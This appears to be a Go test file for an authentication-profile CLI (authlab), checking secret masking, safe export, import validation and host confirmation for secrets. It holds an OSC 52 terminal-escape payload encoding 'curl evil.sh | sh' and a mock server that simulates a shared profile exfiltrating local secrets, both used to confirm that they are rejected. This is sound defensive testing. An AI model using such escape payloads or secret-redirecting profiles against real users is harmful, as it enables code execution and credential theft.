package cli

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/spf13/pflag"
	bolt "go.etcd.io/bbolt"

	"authlab/store"
)

type cli struct {
	t     *testing.T
	store string
}

func newCLI(t *testing.T) *cli {
	return &cli{t: t, store: filepath.Join(t.TempDir(), "authlab.db")}
}

// run executes the command tree in-process against the test's store.
func (c *cli) run(stdin string, args ...string) (code int, stdout, stderr string) {
	c.t.Helper()
	return runAuthlab(c.t, c.store, stdin, args...)
}

func (c *cli) ok(args ...string) string {
	c.t.Helper()
	code, out, errs := c.run("", args...)
	if code != 0 {
		c.t.Fatalf("authlab %s: exit %d: %s", strings.Join(args, " "), code, errs)
	}
	return out
}

const (
	clientSecretValue = "cli-secret-Zq81"
	hmacKeyValue      = "cli-hmac-key-77Ab"
)

func (c *cli) seed() {
	c.ok("profile", "add", "corp", "--kind", "client-credentials", "--issuer", "https://idp.example.com",
		"--client-id", "api-test", "--client-secret", clientSecretValue, "--scope", "read write", "--scope", "admin",
		"--tag", "prod,eu", "--param", "prompt=consent", "--audience", "api://a", "--notes", "main")
	c.ok("profile", "add", "sig", "--kind", "hmac", "--scheme", "rfc9421", "--hmac-key", hmacKeyValue,
		"--key-id", "k1", "--components", `"@method" "@authority"`)
	c.ok("profile", "add", "ref", "--kind", "client-credentials", "--token-url", "https://idp.example.com/token",
		"--client-secret", "env:REF_SECRET")
}

func TestProfileAddListShow(t *testing.T) {
	c := newCLI(t)
	if code, out, errs := c.run("", "profile", "list"); code != 0 || out != "" || !strings.Contains(errs, "no profiles yet") {
		t.Fatalf("empty list: %d %q %q", code, out, errs)
	}
	c.seed()
	out := c.ok("profile", "list")
	lines := strings.Split(strings.TrimSpace(out), "\n")
	if len(lines) != 4 || !strings.HasPrefix(lines[0], "NAME") || !strings.HasPrefix(lines[1], "corp ") ||
		!strings.Contains(lines[1], "https://idp.example.com") || !strings.Contains(lines[1], "prod,eu") ||
		!strings.HasPrefix(lines[2], "ref ") || !strings.Contains(lines[2], "https://idp.example.com/token") || !strings.HasPrefix(lines[3], "sig ") {
		t.Fatalf("list:\n%s", out)
	}
	var list []store.ProfileSummary
	if err := json.Unmarshal([]byte(c.ok("profile", "list", "--json")), &list); err != nil || len(list) != 3 || list[2].Kind != store.KindHMAC {
		t.Fatalf("list --json: %v %+v", err, list)
	}

	show := c.ok("profile", "show", "corp")
	for _, want := range []string{"client id:", "api-test", "scopes:", "read write admin", "param prompt:", "consent", "client secret:", "(stored)"} {
		if !strings.Contains(show, want) {
			t.Fatalf("show lacks %q:\n%s", want, show)
		}
	}
	var p map[string]any
	js := c.ok("profile", "show", "sig", "--json")
	if err := json.Unmarshal([]byte(js), &p); err != nil || p["hmac"].(map[string]any)["components"] != `"@method" "@authority"` {
		t.Fatalf("show --json: %v\n%s", err, js)
	}
	if !strings.Contains(c.ok("profile", "show", "ref"), "env:REF_SECRET") {
		t.Fatal("show should print references")
	}
	for _, args := range [][]string{{"profile", "list"}, {"profile", "list", "--json"}, {"profile", "show", "corp"},
		{"profile", "show", "corp", "--json"}, {"profile", "show", "sig"}, {"profile", "show", "sig", "--json"}} {
		out := c.ok(args...)
		if strings.Contains(out, clientSecretValue) || strings.Contains(out, hmacKeyValue) {
			t.Fatalf("%v prints a secret:\n%s", args, out)
		}
	}
}

func TestProfileAddErrors(t *testing.T) {
	c := newCLI(t)
	c.seed()
	cases := []struct {
		args []string
		want string
	}{
		{[]string{"profile", "add", "x"}, "--kind is required"},
		{[]string{"profile", "add"}, "needs NAME"},
		{[]string{"profile", "add", "x", "--kind", "saml"}, `--kind: unknown kind "saml"`},
		{[]string{"profile", "add", "x", "--kind", "auth-code", "--token-url", "ftp://t", "--redirect-port", "99999"},
			`--token-url: "ftp://t" is not an http(s) URL; --auth-url: missing: auth-code profiles need --issuer (discovery) or --auth-url; --redirect-port: 99999 is not a port`},
		{[]string{"profile", "add", "bad name", "--kind", "hmac", "--scheme", "github"}, `NAME: "bad name" is not a valid name`},
		{[]string{"profile", "add", "x", "--kind", "hmac", "--scheme", "github", "--param", "novalue"}, `--param "novalue": want k=v`},
		{[]string{"profile", "add", "corp", "--kind", "hmac", "--scheme", "github"}, `profile "corp": already exists (use --force to replace it)`},
		{[]string{"profile", "add", "x", "--kind", "hmac", "--bogus"}, "unknown flag: --bogus"},
		{[]string{"profile", "rm", "nope"}, `profile "nope": not found`},
		{[]string{"profile", "show", "nope"}, `profile "nope": not found`},
	}
	for _, tc := range cases {
		code, _, errs := c.run("", tc.args...)
		if code != exitUsage || !strings.Contains(errs, tc.want) || strings.Count(errs, "\n") != 1 {
			t.Errorf("%v: exit %d, stderr %q, want %q", tc.args, code, errs, tc.want)
		}
	}
	// --force replaces the whole profile.
	c.ok("profile", "add", "corp", "--kind", "hmac", "--scheme", "github", "--force")
	if show := c.ok("profile", "show", "corp"); !strings.Contains(show, "hmac") || strings.Contains(show, "api-test") {
		t.Fatalf("after --force:\n%s", show)
	}
	if out := c.ok("profile", "rm", "corp"); !strings.Contains(out, "removed profile corp") {
		t.Fatal(out)
	}
	if code, _, _ := c.run("", "profile", "show", "corp"); code != exitUsage {
		t.Fatal("corp still there after rm")
	}
}

func TestProfileExportNeverLeaksSecrets(t *testing.T) {
	c := newCLI(t)
	c.seed()
	plain := c.ok("profile", "export")
	for _, v := range []string{clientSecretValue, hmacKeyValue} {
		if strings.Contains(plain, v) {
			t.Fatalf("export contains %q", v)
		}
	}
	for _, want := range []string{"<stored secret: set with --client-secret>", "<stored secret: set with --hmac-key>", "env:REF_SECRET"} {
		if !strings.Contains(plain, want) {
			t.Fatalf("export lacks %q:\n%s", want, plain)
		}
	}
	one := c.ok("profile", "export", "sig")
	if strings.Contains(one, `"corp"`) || !strings.Contains(one, `"sig"`) || strings.Contains(one, hmacKeyValue) {
		t.Fatalf("export sig:\n%s", one)
	}
	file := filepath.Join(t.TempDir(), "backup.json")
	c.ok("profile", "export", "--include-secrets", "-o", file)
	b, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	fi, _ := os.Stat(file)
	if fi.Mode().Perm() != 0o600 || !bytes.Contains(b, []byte(clientSecretValue)) || !bytes.Contains(b, []byte(hmacKeyValue)) {
		t.Fatalf("export --include-secrets: mode %v\n%s", fi.Mode().Perm(), b)
	}

	// Import the plain export into another store from stdin, and the full
	// backup from a file with --force over it.
	c2 := newCLI(t)
	if code, out, errs := c2.run(plain, "profile", "import", "-"); code != 0 || !strings.Contains(out, "imported 3 profiles from stdin") {
		t.Fatalf("import -: %d %s %s", code, out, errs)
	}
	if code, _, errs := c2.run("", "profile", "import", file); code != exitUsage || !strings.Contains(errs, "a profile with this name exists") {
		t.Fatalf("import over existing: %d %s", code, errs)
	}
	c2.ok("profile", "import", file, "--force")
	var back struct{ Profiles []map[string]any }
	json.Unmarshal([]byte(c2.ok("profile", "export", "--include-secrets", "corp")), &back)
	if back.Profiles[0]["secrets"].(map[string]any)["client_secret"] != clientSecretValue {
		t.Fatalf("round trip lost the secret: %v", back.Profiles[0]["secrets"])
	}
}

func TestProfileImportErrorsChangeNothing(t *testing.T) {
	c := newCLI(t)
	c.seed()
	before := c.ok("profile", "export", "--include-secrets")
	cases := map[string]string{
		"{\"profiles\": [\n  {\"name\": \"a\" \"kind\": \"hmac\"}\n]}":                                                  "malformed JSON at line 2, column 16",
		`[{"name":"n","kind":"kerberos"}]`:                                                                              `profile "n" (line 1): kind: unknown kind "kerberos"`,
		`[{"kind":"hmac","hmac":{"scheme":"github"}}]`:                                                                  "profiles[0] (line 1): name: missing",
		`[{"name":"n","kind":"hmac","hmac":{"scheme":"github"}},{"name":"n","kind":"hmac","hmac":{"scheme":"github"}}]`: "duplicate",
	}
	for in, want := range cases {
		code, out, errs := c.run(in, "profile", "import", "-")
		if code != exitUsage || out != "" || !strings.Contains(errs, want) || strings.Count(errs, "\n") != 1 {
			t.Errorf("import %s: exit %d, stderr %q, want %q", in, code, errs, want)
		}
	}
	if code, _, errs := c.run("", "profile", "import", filepath.Join(t.TempDir(), "missing.json")); code != exitUsage || !strings.Contains(errs, "no such file") {
		t.Errorf("missing file: %d %s", code, errs)
	}
	if after := c.ok("profile", "export", "--include-secrets"); after != before {
		t.Fatalf("failed imports changed the store")
	}
}

func TestProfileStoreInUse(t *testing.T) {
	c := newCLI(t)
	c.seed()
	s, err := store.Open(c.store)
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	code, _, errs := c.run("", "profile", "list")
	if code != exitUsage || errs != "authlab: store "+c.store+" is in use by another authlab process (close it there, or use --store to pick another file)\n" {
		t.Fatalf("exit %d, stderr %q", code, errs)
	}
}

func TestProfileHelpHasExamples(t *testing.T) {
	c := newCLI(t)
	for _, sub := range []string{"list", "show", "add", "set", "rename", "rm", "import", "export"} {
		out := c.ok("profile", sub, "--help")
		if !strings.Contains(out, "Examples:") || !strings.Contains(out, "authlab profile "+sub) {
			t.Errorf("profile %s --help has no example:\n%s", sub, out)
		}
	}
	if out := c.ok("profile", "add", "--help"); !strings.Contains(out, "--client-secret") || !strings.Contains(out, "--hmac-key") {
		t.Error("add --help lacks the profile flags")
	}
}

// overlay applies only the flags a user set, for `authlab run PROFILE --flag`.
func TestProfileFlagsOverlay(t *testing.T) {
	var pf profileFlags
	fs := pflag.NewFlagSet("t", pflag.ContinueOnError)
	addProfileFlags(fs, &pf)
	if err := fs.Parse([]string{"--scope", "a b", "--client-secret", "env:NEW", "--redirect-port", "9000"}); err != nil {
		t.Fatal(err)
	}
	p := store.Profile{Name: "x", Kind: store.KindAuthCode, Issuer: "https://i.example", Scopes: []string{"old"}, ClientID: "keep",
		Secrets: map[store.SecretKind]store.Secret{store.HMACKey: store.SecretValue("h")}}
	if err := pf.overlay(fs, &p); err != nil {
		t.Fatal(err)
	}
	if strings.Join(p.Scopes, ",") != "a,b" || p.ClientID != "keep" || p.Issuer != "https://i.example" || p.RedirectPort != 9000 ||
		p.Secrets[store.ClientSecret].Ref() != "env:NEW" || p.Secrets[store.HMACKey].IsZero() {
		t.Fatalf("overlay: %+v", p)
	}
	// Every flag has an overlay entry, so none is silently ignored.
	entries := map[string]bool{}
	for _, f := range profileFlagFields() {
		entries[f.flag] = true
	}
	fs.VisitAll(func(f *pflag.Flag) {
		if !entries[f.Name] {
			t.Errorf("flag --%s has no overlay entry", f.Name)
		}
	})
}

// BenchmarkProfileList10k is `authlab profile list` in-process on 10,000
// profiles (the whole-process figure is measured with hyperfine).
func BenchmarkProfileList10k(b *testing.B) {
	path := filepath.Join(b.TempDir(), "big.db")
	ps := make([]store.Profile, 10000)
	for i := range ps {
		ps[i] = store.Profile{Name: fmt.Sprintf("p%05d", i), Kind: store.KindClientCredentials,
			Issuer: fmt.Sprintf("https://idp%d.example.com/realms/r%d", i%7, i), ClientID: fmt.Sprintf("client-%d", i),
			Scopes: []string{"openid", "profile"}, Tags: []string{"perf", fmt.Sprintf("t%d", i%10)}, Notes: "generated",
			Secrets: map[store.SecretKind]store.Secret{store.ClientSecret: store.ParseSecret(fmt.Sprintf("env:S_%d", i))}}
	}
	if err := store.Update(path, func(s *store.Store) error { return s.ImportProfiles(ps, false) }); err != nil {
		b.Fatal(err)
	}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		g := &globals{stdout: io.Discard, stderr: io.Discard, stdin: strings.NewReader("")}
		if code := execute([]string{"--store", path, "profile", "list"}, g); code != 0 {
			b.Fatalf("exit %d", code)
		}
	}
}

// TestProfileExportPrivateFile: --include-secrets -o FILE leaves a 0600 file
// even when a 0644 file was there, and replaces a symlink instead of
// writing through it.
func TestProfileExportPrivateFile(t *testing.T) {
	c := newCLI(t)
	c.seed()
	dir := t.TempDir()
	out := filepath.Join(dir, "backup.json")
	if err := os.WriteFile(out, []byte("old"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(out, 0o644); err != nil { // umask-proof
		t.Fatal(err)
	}
	c.ok("profile", "export", "--include-secrets", "-o", out)
	fi, err := os.Lstat(out)
	if err != nil || fi.Mode().Perm() != 0o600 || !fi.Mode().IsRegular() {
		t.Fatalf("export file: %v %v", fi.Mode(), err)
	}
	if data, _ := os.ReadFile(out); !strings.Contains(string(data), clientSecretValue) {
		t.Fatalf("export lacks the secret it was asked for:\n%s", data)
	}

	target := filepath.Join(dir, "target.txt")
	if err := os.WriteFile(target, []byte("keep me"), 0o644); err != nil {
		t.Fatal(err)
	}
	link := filepath.Join(dir, "link.json")
	if err := os.Symlink(target, link); err != nil {
		t.Fatal(err)
	}
	c.ok("profile", "export", "--include-secrets", "-o", link)
	if data, _ := os.ReadFile(target); string(data) != "keep me" {
		t.Fatalf("export wrote through the symlink: target now %q", data)
	}
	fi, err = os.Lstat(link)
	if err != nil || fi.Mode()&os.ModeSymlink != 0 || fi.Mode().Perm() != 0o600 {
		t.Fatalf("symlink path after export: %v %v", fi.Mode(), err)
	}
}

// TestProfileImportRejectsTerminalEscapes: an OSC 52 (clipboard) payload in
// notes is refused with the field's name, escaped in the message, and
// nothing is imported.
func TestProfileImportRejectsTerminalEscapes(t *testing.T) {
	c := newCLI(t)
	c.seed()
	before := c.ok("profile", "export", "--include-secrets")
	in := `[{"name":"evil","kind":"client-credentials","token_url":"https://idp.example.com/token",` +
		`"notes":"hello \u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007"}]`
	code, out, errs := c.run(in, "profile", "import", "-")
	if code != exitUsage || out != "" || !strings.Contains(errs, `profile "evil" (line 1): notes: contains the control character U+001B`) ||
		strings.ContainsAny(errs, "\x1b\x07") || strings.Count(errs, "\n") != 1 {
		t.Fatalf("exit %d, stdout %q, stderr %q", code, out, errs)
	}
	if after := c.ok("profile", "export", "--include-secrets"); after != before {
		t.Fatal("a rejected import changed the store")
	}
	// The CLI escapes what it prints as well (a second defence).
	var b bytes.Buffer
	if err := printProfile(&b, store.Profile{Name: "x", Notes: "a\x1b]52;c;Zm9v\x07b", Tags: []string{"t\u009b"}}); err != nil {
		t.Fatal(err)
	}
	if strings.ContainsAny(b.String(), "\x1b\x07\u009b") || !strings.Contains(b.String(), `a\x1b]52;c;Zm9v\x07b`) {
		t.Fatalf("show printed raw control characters: %q", b.String())
	}
}

// TestProfileMissingStoreCreatesNothing: reading a store that does not
// exist says so and leaves no directory or file behind.
func TestProfileMissingStoreCreatesNothing(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "nonexistent", "dir")
	c := &cli{t: t, store: filepath.Join(dir, "x.db")}
	code, out, errs := c.run("", "profile", "list")
	if code != 0 || out != "" || errs != "no profiles yet (store "+c.store+" does not exist yet); add one with: authlab profile add NAME --kind KIND ...\n" {
		t.Fatalf("list: exit %d, stdout %q, stderr %q", code, out, errs)
	}
	if out := c.ok("profile", "list", "--json"); strings.TrimSpace(out) != "[]" {
		t.Fatalf("list --json: %q", out)
	}
	code, _, errs = c.run("", "profile", "show", "corp")
	if code != exitUsage || errs != "authlab: no profile \"corp\": store "+c.store+" does not exist yet\n" {
		t.Fatalf("show: exit %d, stderr %q", code, errs)
	}
	if _, err := os.Stat(filepath.Dir(dir)); !os.IsNotExist(err) {
		t.Fatalf("a read created %s: %v", filepath.Dir(dir), err)
	}
	c.seed()
	fi, err := os.Stat(c.store)
	di, derr := os.Stat(dir)
	if err != nil || derr != nil || fi.Mode().Perm() != 0o600 || di.Mode().Perm() != 0o700 {
		t.Fatalf("after add: file %v dir %v (%v %v)", fi, di, err, derr)
	}
}

// TestProfileImportFileCapped: import reads regular files only.
func TestProfileImportFileCapped(t *testing.T) {
	c := newCLI(t)
	code, _, errs := c.run("", "profile", "import", t.TempDir())
	if code != exitUsage || !strings.Contains(errs, "not a regular file") {
		t.Fatalf("import a directory: exit %d, stderr %q", code, errs)
	}
}

// TestProfileTargetURL: hmac and api-key profiles keep their request URL in
// target_url, set with --target-url or, as before, --token-url; an old
// export file with the URL in token_url imports the same way.
func TestProfileTargetURL(t *testing.T) {
	c := newCLI(t)
	c.ok("profile", "add", "sig", "--kind", "hmac", "--scheme", "stripe", "--hmac-key", hmacKeyValue, "--target-url", "https://api.example.com/a")
	c.ok("profile", "add", "key", "--kind", "api-key", "--api-key", "env:K", "--token-url", "https://api.example.com/b")
	show := c.ok("profile", "show", "sig")
	if !strings.Contains(show, "target url:") || !strings.Contains(show, "https://api.example.com/a") || strings.Contains(show, "token url") {
		t.Fatalf("show:\n%s", show)
	}
	var p map[string]any
	if err := json.Unmarshal([]byte(c.ok("profile", "show", "key", "--json")), &p); err != nil || p["target_url"] != "https://api.example.com/b" || p["token_url"] != nil {
		t.Fatalf("show --json: %v %v", err, p)
	}
	if list := c.ok("profile", "list"); !strings.Contains(list, "https://api.example.com/a") || !strings.Contains(list, "https://api.example.com/b") {
		t.Fatalf("list shows no target URLs:\n%s", list)
	}
	code, _, errs := c.run("", "profile", "add", "both", "--kind", "hmac", "--scheme", "stripe",
		"--token-url", "https://idp.example.com/token", "--target-url", "https://api.example.com/c")
	if code != exitUsage || !strings.Contains(errs, "--token-url: an hmac profile has no token endpoint") {
		t.Fatalf("both URLs: exit %d %q", code, errs)
	}
	if code, _, errs := c.run("", "profile", "add", "bad", "--kind", "api-key", "--target-url", "ftp://x"); code != exitUsage ||
		!strings.Contains(errs, `--target-url: "ftp://x" is not an http(s) URL`) {
		t.Fatalf("bad target: exit %d %q", code, errs)
	}
	old := `{"format":"authlab-profiles","version":1,"profiles":[{"name":"old","kind":"hmac","token_url":"https://api.example.com/d","hmac":{"scheme":"github"}}]}`
	if code, _, errs := c.run(old, "profile", "import", "-"); code != 0 {
		t.Fatalf("import old shape: exit %d %s", code, errs)
	}
	if !strings.Contains(c.ok("profile", "show", "old"), "target url:") {
		t.Fatal("imported old-shape profile has no target url")
	}
	if exp := c.ok("profile", "export", "old"); !strings.Contains(exp, `"target_url": "https://api.example.com/d"`) || strings.Contains(exp, "token_url") {
		t.Fatalf("export:\n%s", exp)
	}
}

// exfilServer stands for the server of someone who shares a profile file:
// it counts every request it gets and answers like a token endpoint.
func exfilServer(t *testing.T) (*httptest.Server, *atomic.Int32) {
	t.Helper()
	var hits atomic.Int32
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		w.Header().Set("Content-Type", "application/json")
		io.WriteString(w, `{"access_token":"opaque-at","token_type":"Bearer","expires_in":60}`)
	}))
	t.Cleanup(srv.Close)
	return srv, &hits
}

// Item 1: a shared profile file names a local file, an environment variable
// and its own server; no run (run, bench, flow hmac) sends anything until a
// person confirms, and the refusal is one line naming profile, reference
// and host.
func TestImportedProfileCannotExfiltrateSecrets(t *testing.T) {
	srv, hits := exfilServer(t)
	origin := strings.TrimPrefix(srv.URL, "http://")
	key := filepath.Join(t.TempDir(), "key.pem")
	os.WriteFile(key, []byte("local-file-secret-Ab3\n"), 0o600)
	t.Setenv("AUTHLAB_TEST_VICTIM", "local-env-secret-Cd4")
	shared := fmt.Sprintf(`{"format":"authlab-profiles","version":1,"profiles":[
 {"name":"api","kind":"client-credentials","token_url":%q,"client_id":"c","secrets":{"client_secret":"file:%s"}},
 {"name":"sig","kind":"hmac","target_url":%q,"hmac":{"scheme":"github"},"secrets":{"hmac_key":"env:AUTHLAB_TEST_VICTIM"}}]}`,
		srv.URL+"/token", key, srv.URL+"/hook")
	c := newCLI(t)
	code, out, errs := c.run(shared, "profile", "import", "-")
	if code != 0 || !strings.Contains(out, "imported 2 profiles") || !strings.Contains(errs, "file:"+key+" is not confirmed yet; run 'authlab profile trust api'") {
		t.Fatalf("import: %d %q %q", code, out, errs)
	}
	wantAPI := fmt.Sprintf("authlab: profile \"api\": file:%s would be sent to http://%s, which it was not confirmed for; run 'authlab profile trust api' to confirm\n", key, origin)
	wantSig := fmt.Sprintf("authlab: profile \"sig\": env:AUTHLAB_TEST_VICTIM would be sent to http://%s, which it was not confirmed for; run 'authlab profile trust sig' to confirm\n", origin)
	for _, r := range []struct {
		args []string
		want string
	}{
		{[]string{"run", "api"}, wantAPI},
		{[]string{"run", "api", "--flow", "introspect", "--token", "x"}, wantAPI},
		{[]string{"bench", "api", "-n", "1"}, wantAPI},
		{[]string{"flow", "hmac", "--profile", "sig"}, wantSig},
	} {
		if code, _, errs := c.run("", r.args...); code != exitUsage || errs != r.want {
			t.Errorf("%v: exit %d, stderr %q\nwant %q", r.args, code, errs, r.want)
		}
	}
	if n := hits.Load(); n != 0 {
		t.Fatalf("the server got %d requests before anyone confirmed", n)
	}
	if show := c.ok("profile", "show", "api"); !strings.Contains(show, "not confirmed for these hosts") {
		t.Fatalf("show:\n%s", show)
	}

	// trust shows what goes where and asks; no is no.
	code, out, errs = c.run("n\n", "profile", "trust", "api")
	if code != exitFailed || !strings.Contains(out, "client secret: file:"+key+" → http://"+origin+"  [NOT CONFIRMED]") ||
		!strings.Contains(out, "[y/N]") || !strings.Contains(errs, "not confirmed, nothing changed") {
		t.Fatalf("trust, answer n: %d %q %q", code, out, errs)
	}
	if code, _, _ := c.run("", "profile", "trust", "api"); code != exitFailed { // no answer is no
		t.Fatalf("trust without an answer: exit %d", code)
	}
	if code, _, errs := c.run("", "run", "api"); code != exitUsage || errs != wantAPI {
		t.Fatalf("after a refusal: %d %q", code, errs)
	}
	if code, out, errs := c.run("yes\n", "profile", "trust", "api"); code != 0 || !strings.Contains(out, "confirmed 1 secret of profile api") {
		t.Fatalf("trust, answer yes: %d %q %q", code, out, errs)
	}
	if code, _, errs := c.run("", "run", "api"); code != 0 || hits.Load() != 1 {
		t.Fatalf("confirmed run: exit %d, %d requests, %s", code, hits.Load(), errs)
	}
	if out := c.ok("profile", "trust", "api"); !strings.Contains(out, "already confirmed") {
		t.Fatalf("trust again: %q", out)
	}
	c.ok("profile", "trust", "sig", "--yes")
	if code, _, errs := c.run("", "flow", "hmac", "--profile", "sig"); code != 0 || hits.Load() != 2 {
		t.Fatalf("confirmed hmac: exit %d, %s", code, errs)
	}

	// The same file edited to point the confirmed file at another host.
	other := strings.Replace(shared, srv.URL+"/token", "http://127.0.0.1:1/token", 1)
	if code, _, errs := c.run(other, "profile", "import", "-", "--force"); code != 0 || !strings.Contains(errs, "is not confirmed yet") {
		t.Fatalf("re-import: %d %q", code, errs)
	}
	if code, _, errs := c.run("", "run", "api"); code != exitUsage || !strings.Contains(errs, "would be sent to http://127.0.0.1:1,") {
		t.Fatalf("moved reference: %d %q", code, errs)
	}
}

// Item 1: profile add --force over a profile whose URLs change keeps a
// stored secret (placeholder) only for the hosts it was entered for.
func TestProfileAddForceOriginChangeDropsStoredSecret(t *testing.T) {
	c := newCLI(t)
	c.ok("profile", "add", "api", "--kind", "client-credentials", "--token-url", "https://a.example/token", "--client-secret", clientSecretValue)
	keep := "<stored secret: set with --client-secret>"
	code, _, errs := c.run("", "profile", "add", "api", "--force", "--kind", "client-credentials", "--token-url", "https://a.example/v2/token", "--client-secret", keep)
	if code != 0 || errs != "" || !strings.Contains(c.ok("profile", "show", "api"), "(stored)") {
		t.Fatalf("same host: %d %q", code, errs)
	}
	code, _, errs = c.run("", "profile", "add", "api", "--force", "--kind", "client-credentials", "--token-url", "https://b.example/token", "--client-secret", keep)
	if code != 0 || !strings.Contains(errs, "profile api: dropped the stored client secret: it was confirmed for other hosts than https://b.example:443; set it again with --client-secret") {
		t.Fatalf("new host: %d %q", code, errs)
	}
	if show := c.ok("profile", "show", "api"); strings.Contains(show, "client secret") {
		t.Fatalf("the stored secret followed the profile to a new host:\n%s", show)
	}
	// A reference kept the same way waits for a confirmation; typed again it is confirmed.
	c.ok("profile", "add", "api", "--force", "--kind", "client-credentials", "--token-url", "https://b.example/token", "--client-secret", "env:API_SECRET")
	code, _, errs = c.run("", "profile", "add", "api", "--force", "--kind", "client-credentials", "--token-url", "https://c.example/token", "--client-secret", keep)
	if code != 0 || !strings.Contains(errs, "env:API_SECRET is not confirmed yet") {
		t.Fatalf("kept reference: %d %q", code, errs)
	}
	c.ok("profile", "add", "api", "--force", "--kind", "client-credentials", "--token-url", "https://c.example/token", "--client-secret", "env:API_SECRET")
	if show := c.ok("profile", "show", "api"); strings.Contains(show, "not confirmed") {
		t.Fatalf("a typed reference is confirmed:\n%s", show)
	}
}

// Item 7: a URL password never shows in profile list, show or export (a
// profile saved before they were refused), and new profiles refuse one
// without echoing it.
func TestURLPasswordsHiddenInProfileOutput(t *testing.T) {
	c := newCLI(t)
	code, _, errs := c.run("", "profile", "add", "pw", "--kind", "client-credentials", "--token-url", "https://u:pw-Kx1@idp.example.com/t")
	if code != exitUsage || !strings.Contains(errs, "--token-url: carries a password") || strings.Contains(errs, "pw-Kx1") {
		t.Fatalf("add: %d %q", code, errs)
	}
	if code, _, errs := c.run("", "profile", "add", "pw", "--kind", "client-credentials", "--token-url", "https://u:pw-Kx1@"); strings.Contains(errs, "pw-Kx1") || code != exitUsage {
		t.Fatalf("add, no host: %d %q", code, errs)
	}
	c.ok("profile", "add", "legacy", "--kind", "client-credentials", "--token-url", "https://idp.example.com/t", "--issuer", "https://idp.example.com")
	// As an older authlab could have saved it.
	db, err := bolt.Open(c.store, 0o600, nil)
	if err != nil {
		t.Fatal(err)
	}
	err = db.Update(func(tx *bolt.Tx) error {
		return tx.Bucket([]byte("profiles")).Put([]byte("legacy"), []byte(`{"v":1,"name":"legacy","kind":"client-credentials","issuer":"https://u:pw-Kx1@idp.example.com","token_url":"https://u:pw-Kx1@idp.example.com/t"}`))
	})
	db.Close()
	if err != nil {
		t.Fatal(err)
	}
	for _, args := range [][]string{{"profile", "list"}, {"profile", "list", "--json"}, {"profile", "show", "legacy"},
		{"profile", "show", "legacy", "--json"}, {"profile", "export"}, {"profile", "export", "legacy"}} {
		out := c.ok(args...)
		if strings.Contains(out, "pw-Kx1") || !strings.Contains(out, "u:xxxxx@idp.example.com") {
			t.Errorf("%v shows the password (or no URL):\n%s", args, out)
		}
	}
}

// Item 8: profile rm, and a secret replaced by profile add --force, leave
// no old value readable in the store file.
func TestProfileRmLeavesNoSecretInFile(t *testing.T) {
	c := newCLI(t)
	c.seed()
	inFile := func(v string) bool {
		b, err := os.ReadFile(c.store)
		if err != nil {
			t.Fatal(err)
		}
		return bytes.Contains(b, []byte(v))
	}
	if !inFile(clientSecretValue) || !inFile(hmacKeyValue) {
		t.Fatal("fixture: the secrets are not in the file")
	}
	c.ok("profile", "rm", "corp")
	c.ok("profile", "add", "sig", "--force", "--kind", "hmac", "--scheme", "rfc9421", "--hmac-key", "new-hmac-key-Q1")
	if inFile(clientSecretValue) || inFile(hmacKeyValue) {
		t.Fatal("a removed or replaced secret is still readable in the store file")
	}
	if out := c.ok("profile", "list"); !strings.Contains(out, "sig") || strings.Contains(out, "corp") {
		t.Fatalf("list after compaction:\n%s", out)
	}
}
